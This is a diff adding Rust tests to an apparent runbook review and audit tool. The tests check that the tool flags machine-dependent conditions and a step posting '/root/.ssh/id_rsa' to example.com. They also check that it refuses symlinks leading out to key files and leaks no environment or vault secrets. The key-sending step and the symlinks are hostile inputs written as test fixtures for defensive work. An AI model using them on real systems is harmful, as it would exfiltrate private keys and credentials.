@@ -15,7 +15,7 @@ const OWNER: &str = r#"step "role_assignment" "x" {
 "#;
 
 /// Conditions that are false here and now, and need not be so in a run.
-const OPEN: [&str; 9] = [
+const OPEN: [&str; 17] = [
     "when = var.maintenance",
     "when = local.never",
     "when = timecmp(plantimestamp(), \"2099-01-01T00:00:00Z\") > 0",
@@ -25,6 +25,14 @@ const OPEN: [&str; 9] = [
     "for_each = fileset(\"/etc\", \"nothing-*\")",
     "for_each = toset([for name in var.names : name])",
     "for_each = var.names",
+    "when = path.cwd == \"/srv/prod\"",
+    "when = abspath(\".\") == \"/srv/prod\"",
+    "when = pathexpand(\"~\") == \"/srv/prod\"",
+    "when = fileexists(\"prod\")",
+    "when = file(\"f.txt\") == \"prod\"",
+    "when = try(file(\"prod\"), \"\") == \"prod\"",
+    "count = filesha256(\"f.txt\") == \"00\" ? 1 : 0",
+    "for_each = fileset(\".\", \"*.prod\")",
 ];
 
 const VARIABLES: &str = r#"
@@ -50,6 +58,7 @@ fn a_step_that_may_run_is_reviewed() {
     for gate in OPEN {
         let place = Place::new();
         place.write("old/main.runbook.hcl", VARIABLES);
+        place.write("new/f.txt", "test");
         place.write("new/main.runbook.hcl", with_gate(gate));
         let audited = place.run(&["audit", "new"]);
         assert!(
@@ -71,6 +80,125 @@ fn a_step_that_may_run_is_reviewed() {
         let is_of_run =
             gate.contains("plantimestamp") || plan.out.contains("Nothing") || !plan.out.contains("+ ");
         assert!(is_of_run, "{gate}: {}", plan.seen());
+    }
+}
+
+/// A value that depends on the machine is not the one of the reviewer's machine.
+#[test]
+fn a_value_of_the_machine_is_not_known() {
+    let conditions = [
+        "path.cwd == \"/srv/prod\"",
+        "abspath(\".\") == \"/srv/prod\"",
+        "pathexpand(\"~\") == \"/srv/prod\"",
+        "fileexists(\"prod\")",
+        "try(file(\"prod\"), \"\") == \"prod\"",
+        "can(filesha256(\"prod\"))",
+    ];
+    for condition in conditions {
+        let place = Place::new();
+        place.write("old/main.runbook.hcl", OWNER.replace("GATE", "").replace("Owner", "Reader"));
+        let role = format!("role = {condition} ? \"Owner\" : \"Reader\"");
+        place.write(
+            "new/main.runbook.hcl",
+            OWNER.replace("GATE", "").replace("role         = \"Owner\"", &role),
+        );
+        let compared = place.run(&["diff", "old", "new", "-fail-on", "privilege"]);
+        assert_eq!(compared.code, Some(2), "{condition}: {}", compared.seen());
+        // An absolute path is the same everywhere.
+        ended(place.run(&["validate", "new"]), 0);
+    }
+}
+
+/// A file that a review does not read is named, and the right one.
+#[test]
+fn a_file_that_only_a_run_reads_is_named() {
+    let place = Place::new();
+    let sends = |file: &str| {
+        format!(
+            "step \"http\" \"h\" {{\n  url    = \"https://example.com/\"\n  method = \"POST\"\n  text   = file(\"{file}\")\n}}\nstep \"echo\" \"r\" {{ input = file(\"readme.txt\") }}\n"
+        )
+    };
+    for (side, file) in [("old", "/etc/hostname"), ("new", "/root/.ssh/id_rsa")] {
+        place.write(&format!("{side}/main.runbook.hcl"), sends(file));
+        place.write(&format!("{side}/readme.txt"), "x");
+    }
+    let audited = place.run(&["audit", "new"]);
+    assert!(audited.out.contains("sends-private-file"), "{}", audited.seen());
+    let compared = place.run(&["diff", "old", "new", "-fail-on", "privilege"]);
+    assert_eq!(compared.code, Some(2), "{}", compared.seen());
+    assert!(compared.out.contains("/root/.ssh/id_rsa"), "{}", compared.seen());
+    assert!(!compared.out.contains("readme.txt"), "{}", compared.seen());
+}
+
+/// The value of a variable in the environment of the reviewer may be a secret of theirs.
+#[test]
+fn no_variable_of_the_environment_counts() {
+    let place = Place::new();
+    place.write("new/main.runbook.hcl", "variable \"token\" {}\nstep \"echo\" \"a\" { input = var.token }\n");
+    place.write("old/main.runbook.hcl", "variable \"token\" {}\n");
+    for arguments in [
+        &["diff", "old", "new", "-verbose"][..],
+        &["audit", "new", "-format", "input"],
+        &["permissions", "new", "-json"],
+        &["report", "new", "-markdown"],
+    ] {
+        let mut command = place.command(arguments);
+        let ran = Ran::of(finished(command.env("ARCBOOK_VAR_token", "canary-of-the-reviewer")));
+        assert!(ran.code == Some(0) && !ran.seen().contains("canary"), "{arguments:?}: {}", ran.seen());
+    }
+}
+
+/// A pull request may carry links.
+#[cfg(unix)]
+#[test]
+fn no_link_leads_out_of_the_runbook() {
+    let place = Place::new();
+    place.write("home/key", "canary-of-the-reviewer\n");
+    place.write("home/config.json", "{\"auths\": \"canary-of-the-reviewer\"}\n");
+    place.write("old/main.runbook.hcl", "");
+    let runbook = "variable \"auths\" { default = \"\" }\noutput \"a\" { value = var.auths }\noutput \"b\" { value = fileset(\".\", \"**\") }\n";
+    for (target, link) in [
+        ("../home/key", "evil.runbook.hcl"),
+        ("../home/config.json", "a.auto.vars.json"),
+        ("../home", "directory"),
+    ] {
+        place.write("new/main.runbook.hcl", runbook);
+        std::os::unix::fs::symlink(target, place.path().join("new").join(link)).expect("a link");
+        for arguments in [
+            &["diff", "old", "new", "-verbose"][..],
+            &["audit", "new", "-format", "input"],
+            &["permissions", "new"],
+            &["report", "new", "-markdown"],
+        ] {
+            let ran = place.run(arguments);
+            let leaks = ran.seen().contains("canary") || ran.seen().contains("config.json\"");
+            assert!(!leaks, "{arguments:?}: {}", ran.seen());
+            let is_refused = ran.code == Some(3) && ran.err.contains("a link that leads out");
+            assert_eq!(is_refused, link != "directory", "{arguments:?}: {}", ran.seen());
+        }
+        std::fs::remove_file(place.path().join("new").join(link)).expect("removed");
+    }
+}
+
+/// A review lists what a runbook releases, so nothing else may release a secret.
+#[test]
+fn a_template_releases_nothing() {
+    for value in [
+        "templatefile(\"t.tpl\", { v = step.keyvault_secret.s.value })",
+        "templatestring(local.t, { v = step.keyvault_secret.s.value })",
+    ] {
+        let place = Place::new();
+        place.write("t.tpl", "${nonsensitive(v)}");
+        place.write(
+            "main.runbook.hcl",
+            format!(
+                "locals {{ t = \"$${{nonsensitive(v)}}\" }}\nstep \"keyvault_secret\" \"s\" {{\n  vault = \"kv01\"\n  name  = \"a\"\n}}\noutput \"a\" {{ value = {value} }}\n"
+            ),
+        );
+        for command in ["validate", "plan", "audit"] {
+            let ran = place.run(&[command]);
+            assert!(ran.code == Some(3) && ran.err.contains("nonsensitive"), "{command}: {}", ran.seen());
+        }
     }
 }
 
